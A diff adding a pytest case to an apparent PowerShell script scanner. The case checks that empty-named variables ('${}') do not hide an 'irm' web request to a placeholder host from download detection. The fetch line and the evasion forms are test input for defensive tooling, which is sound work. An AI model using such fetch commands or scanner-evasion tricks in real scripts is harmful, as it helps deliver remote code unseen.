@@ -116,3 +116,8 @@ def test_brackets_in_brackets_hide_nothing_before_them_and_are_told() -> None:
     with pytest.raises(LimitHit, match="nested too deeply"):
         found.extend(facts(Sample(name="a.ps1", data=code.encode(), kind=PS), Allowance()))
     assert Act.RUNS_CODE in {one.act for one in found}
+
+
+@pytest.mark.parametrize("nameless", ["${}", '"${}"', "echo a${}b"])
+def test_a_variable_without_a_name_hides_nothing(nameless: str) -> None:
+    assert Act.DOWNLOADS in acts(f"{nameless}\nirm http://a.invalid/a", PS)
